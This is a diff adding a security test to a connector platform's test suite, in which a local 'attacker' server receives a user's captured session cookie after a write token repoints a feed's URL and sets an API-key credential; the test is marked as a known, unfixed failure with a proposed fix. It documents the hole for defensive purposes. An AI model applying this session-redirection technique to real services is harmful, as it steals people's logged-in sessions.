@@ -387,3 +387,113 @@ describe('attack 5b: a hostile DevTools endpoint', () => {
     expect((stored?.cookies ?? []).some((c) => c.name === '')).toBe(false);
   }, 30_000);
 });
+
+describe('attack 7: carrying a captured session elsewhere with credentials set after it', () => {
+  let workers: import('../runs/worker.js').RunWorkers | undefined;
+  let service: Server;
+  let serviceUrl: string;
+  let attacker: Server;
+  let attackerUrl: string;
+  const serviceSaw: string[] = [];
+  const attackerSaw: string[] = [];
+  const SESSION = 'person-session-cookie-5e1f0a9b';
+
+  beforeAll(async () => {
+    const { startTestRunWorkers } = await import('../../test/runtime.js');
+    service = createServer((req, res) => {
+      serviceSaw.push(req.headers.cookie ?? '');
+      res.end('{}');
+    });
+    await new Promise<void>((resolve) => service.listen(0, '127.0.0.1', resolve));
+    serviceUrl = `http://127.0.0.1:${(service.address() as AddressInfo).port}`;
+    attacker = createServer((req, res) => {
+      attackerSaw.push(req.headers.cookie ?? '');
+      res.end('{}');
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    // Another host name for the same allowed address: grants are by host name.
+    attackerUrl = `http://localhost:${(attacker.address() as AddressInfo).port}`;
+    const source = `
+import { createHttpClient, defineConnector } from '@svc/connector-sdk';
+export default defineConnector({
+  key: 'atk-both', name: 'Session and key', version: '1.0.0',
+  authSchema: { methods: [
+    { type: 'browser', capture: 'cli', requiredDomains: ['example.test'] },
+    { type: 'env_keys', required: false, fields: [{ key: 'apiKey', label: 'API key', secret: true }] },
+  ] },
+  optionsSchema: { type: 'object', properties: { serviceUrl: { type: 'string', default: '${serviceUrl}' } } },
+  feeds: { items: { key: 'items', name: 'Items',
+    configSchema: { type: 'object', properties: { serviceUrl: { type: 'string' } } },
+    async sync(ctx) {
+      const cookies = ctx.sessionState?.cookies ?? [];
+      const http = createHttpClient({ baseUrl: ctx.config.serviceUrl });
+      await http.request('GET', '/me', { headers: { cookie: cookies.map((c) => c.name + '=' + c.value).join('; ') } });
+      return { events: [], checkpoint: null };
+    } } },
+});`;
+    const installed = await server.call('POST', '/api/default/connectors', { body: { source } });
+    expect(installed.status, JSON.stringify(installed.body)).toBe(201);
+    workers = await startTestRunWorkers(server, { limits: { timeoutMs: 20_000, memoryMb: 256 } });
+  }, 60_000);
+
+  afterAll(async () => {
+    await workers?.close(1000);
+    service?.close();
+    attacker?.close();
+  });
+
+  async function sync(feedId: string) {
+    const started = await server.call('POST', `/api/default/feeds/${feedId}/sync`);
+    expect(started.status, JSON.stringify(started.body)).toBeLessThan(300);
+    for (let i = 0; i < 300; i++) {
+      const { body } = await server.call('GET', `/api/default/runs/${started.body.run.id}`);
+      if (!['pending', 'running'].includes(body.run.status)) return body.run;
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    throw new Error('the run did not end');
+  }
+
+  // Proposed fix (not made: a policy choice): a run that gets a browser session applies the
+  // session's own check (sessionGrant) whether or not the connection also holds credentials, so the
+  // cookies reach only the required domains and the definition's hosts, never a host that was
+  // granted to credentials set later by whoever can PATCH the feed's config.
+  it.fails("a write token that points the feed elsewhere, then sets an env_keys value, does not get the person's cookies sent there", async () => {
+    const made = await server.call('POST', '/api/default/connections', {
+      body: { connectorKey: 'atk-both', config: { serviceUrl } },
+    });
+    expect(made.status, JSON.stringify(made.body)).toBe(201);
+    const connectionId = String(made.body.connection.id);
+    const feedId = String(made.body.feeds[0].id);
+    await server.pool.query(`UPDATE feeds SET next_sync_at = now() + interval '1 day' WHERE id = $1`, [
+      feedId,
+    ]);
+    // The person captures their session.
+    const captured = await server.call('POST', `/api/default/connections/${connectionId}/browser-session`, {
+      body: { cookies: [{ name: 'sid', value: SESSION, domain: '.example.test' }] },
+    });
+    expect(captured.status, JSON.stringify(captured.body)).toBe(200);
+    const first = await sync(feedId);
+    expect(first.status, first.errorMessage).toBe('completed');
+    expect(serviceSaw.at(-1)).toBe(`sid=${SESSION}`);
+    // Pointed elsewhere alone, the run fails: the session's check holds.
+    expect(
+      (
+        await server.call('PATCH', `/api/default/feeds/${feedId}`, {
+          body: { config: { serviceUrl: attackerUrl } },
+        })
+      ).status,
+    ).toBe(200);
+    expect((await sync(feedId)).status).toBe('failed');
+    expect(attackerSaw).toEqual([]);
+    // Then any env_keys value: the credentials are granted for the config of this moment.
+    expect(
+      (
+        await server.call('PATCH', `/api/default/connections/${connectionId}`, {
+          body: { credentials: { apiKey: 'anything' } },
+        })
+      ).status,
+    ).toBe(200);
+    await sync(feedId);
+    expect(attackerSaw.join('\n')).not.toContain(SESSION);
+  }, 60_000);
+});
